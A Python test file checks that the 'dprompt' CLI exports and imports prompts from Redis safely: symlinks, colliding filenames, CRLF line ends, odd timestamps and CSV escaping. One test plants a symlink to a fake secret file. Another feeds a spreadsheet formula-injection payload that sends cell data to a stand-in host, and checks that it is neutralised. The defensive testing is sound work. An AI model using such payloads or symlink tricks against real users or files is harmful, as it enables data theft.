"""A review of dprompt export and import: the files git and other systems make of an export.

Symlinks in the tree, names whose files are one file on macOS and Windows, a checkout
with CRLF line ends, a front matter value holding a line separator, and a changelog
entry whose timestamp no date has.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import redis

from tests.reliability.clirun import Run, error_line, ok, run_cli

PROMPT = "You are a support agent.\nAnswer in 3 sentences.\n"


def dp(url: str, *args: str) -> Run:
    return run_cli(*args, url=url)


def tree(directory: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(directory.iterdir())}


def test_a_symlink_in_the_tree_is_one_line_and_what_it_points_at_never_reaches_redis(
        server_url: str, redis_sync: redis.Redis, tmp_path: Path) -> None:
    secret = tmp_path / "runner-secret.txt"
    secret.write_text("AWS_SECRET=abc123\n")
    prompts = tmp_path / "prompts"
    prompts.mkdir()
    (prompts / "leak.md").symlink_to(secret)                        # the prompt file itself
    (prompts / "support.md").write_text(f'---\nname: "support"\nversion: 1\n---\n{PROMPT}')
    (prompts / "support.original.md").symlink_to(secret)          # a file read beside it
    (prompts / "good.md").write_text("A plain prompt.\n")

    run = dp(server_url, "import", str(prompts))
    assert run.code == 1
    failed = [line for line in run.stderr.splitlines() if "symbolic link" in line]
    assert len(failed) == 2 and any("leak.md" in line for line in failed)
    assert "AWS_SECRET" not in run.all
    assert redis_sync.get("prompt:{good}:active") == "A plain prompt.\n"
    for key in redis_sync.scan_iter(count=1000):
        value = redis_sync.dump(key)
        assert value is None or b"AWS_SECRET" not in value, key
    assert redis_sync.exists("prompt:{leak}:active", "prompt:{support}:active") == 0


def test_names_whose_files_are_one_file_on_macos_or_windows_are_refused_before_a_file_is_written(
        server_url: str, redis_sync: redis.Redis, tmp_path: Path) -> None:
    ok(dp(server_url, "load", "--name", "Support", "--text", PROMPT))
    ok(dp(server_url, "load", "--name", "support", "--text", "Another prompt.\n"))
    out = tmp_path / "case"
    line = error_line(dp(server_url, "export", str(out)))
    assert "'Support'" in line and "'support'" in line
    assert not out.exists() or list(out.iterdir()) == []
    ok(dp(server_url, "export", str(out), "--name", "support"))  # one of them alone is fine
    assert set(tree(out)) == {"support.md", "support.history.jsonl"}

    # guide.original's NAME.md is guide's original file.
    ok(dp(server_url, "load", "--name", "guide", "--text", "Guide v1.\n"))
    ok(dp(server_url, "load", "--name", "guide", "--force", "--text", "Guide v2.\n"))
    ok(dp(server_url, "load", "--name", "guide.original", "--text", "Another prompt.\n"))
    both = tmp_path / "both"
    line = error_line(dp(server_url, "export", str(both), "--name", "guide", "--name", "guide.original"))
    assert "guide.original.md" in line
    assert not both.exists() or list(both.iterdir()) == []


def test_a_prompt_named_like_an_original_file_makes_the_round_trip(
        server_url: str, redis_sync: redis.Redis, tmp_path: Path) -> None:
    ok(dp(server_url, "load", "--name", "notes.original", "--text", PROMPT))
    first, second = tmp_path / "one", tmp_path / "two"
    ok(dp(server_url, "export", str(first)))
    redis_sync.flushdb()
    imported = json.loads(ok(dp(server_url, "import", str(first), "--json")).stdout)
    assert [(r["name"], r["status"]) for r in imported] == [("notes.original", "created")]
    ok(dp(server_url, "export", str(second)))
    assert tree(second) == tree(first)


def test_a_crlf_checkout_of_an_export_is_read_as_front_matter_and_entries(
        server_url: str, redis_sync: redis.Redis, tmp_path: Path) -> None:
    ok(dp(server_url, "load", "--name", "support", "--text", PROMPT))
    ok(dp(server_url, "modify", "--name", "support", "add rule: never use emojis"))
    entries = redis_sync.lrange("prompt:{support}:changelog", 0, -1)
    exported = tmp_path / "export"
    ok(dp(server_url, "export", str(exported)))
    for path in exported.iterdir():  # what git's autocrlf checks out on Windows
        path.write_bytes(path.read_bytes().replace(b"\n", b"\r\n"))

    redis_sync.flushdb()
    [result] = json.loads(ok(dp(server_url, "import", str(exported), "--json")).stdout)
    assert (result["status"], result["version"]) == ("created", 2)
    text = str(redis_sync.get("prompt:{support}:active") or "")
    assert not text.startswith("---") and "name:" not in text
    assert text.replace("\r\n", "\n").startswith(PROMPT.rstrip("\n"))
    assert redis_sync.lrange("prompt:{support}:changelog", 0, -1) == entries


def test_a_front_matter_value_with_a_line_separator_makes_the_round_trip(
        server_url: str, redis_sync: redis.Redis, tmp_path: Path) -> None:
    ok(dp(server_url, "load", "--name", "support", "--text", PROMPT))
    # Another program's source (a file name may hold U+2028, or U+0085): JSON keeps it unescaped.
    redis_sync.hset("prompt:{support}:meta", "source", "file:/prompts/a\u2028b\x85c.md")
    first, second = tmp_path / "one", tmp_path / "two"
    ok(dp(server_url, "export", str(first)))
    redis_sync.flushdb()
    ok(dp(server_url, "import", str(first)))
    assert redis_sync.hget("prompt:{support}:meta", "source") == "file:/prompts/a\u2028b\x85c.md"
    ok(dp(server_url, "export", str(second)))
    assert tree(second) == tree(first)


def test_the_changelog_exports_to_csv_with_a_timestamp_no_date_has(
        server_url: str, redis_sync: redis.Redis, tmp_path: Path) -> None:
    ok(dp(server_url, "load", "--name", "support", "--text", PROMPT))
    redis_sync.lpush("prompt:{support}:changelog",
                     json.dumps({"timestamp": 1e20, "action": "modify", "instruction": "from far ahead"}))
    target = tmp_path / "log.csv"
    ok(dp(server_url, "export", "--format", "csv", str(target)))
    rows = list(csv.DictReader(io.StringIO(target.read_text())))
    assert (rows[0]["instruction"], rows[0]["time"]) == ("from far ahead", "")
    assert rows[1]["action"] == "load" and rows[1]["time"].endswith("Z")


def test_a_csv_cell_with_a_carriage_return_stays_in_its_row_and_is_never_a_formula(
        server_url: str, redis_sync: redis.Redis, tmp_path: Path) -> None:
    ok(dp(server_url, "load", "--name", "support", "--text", PROMPT))
    for lead in ("\t", "\r"):
        redis_sync.lpush("prompt:{support}:changelog", json.dumps(
            {"timestamp": 1730000000, "action": "modify", "user_id": f"{lead}@evil",
             "instruction": f'{lead}=HYPERLINK("http://x.invalid/?"&A1,"open")'}))
    target = tmp_path / "log.csv"
    ok(dp(server_url, "export", "--format", "csv", str(target)))
    rows = list(csv.DictReader(io.StringIO(target.read_bytes().decode(), newline="")))
    assert [r["instruction"][:3] for r in rows[:2]] == ["'\r=", "'\t="]
    assert [r["user_id"][:3] for r in rows[:2]] == ["'\r@", "'\t@"]
    assert [r["action"] for r in rows] == ["modify", "modify", "load"]  # one row per entry
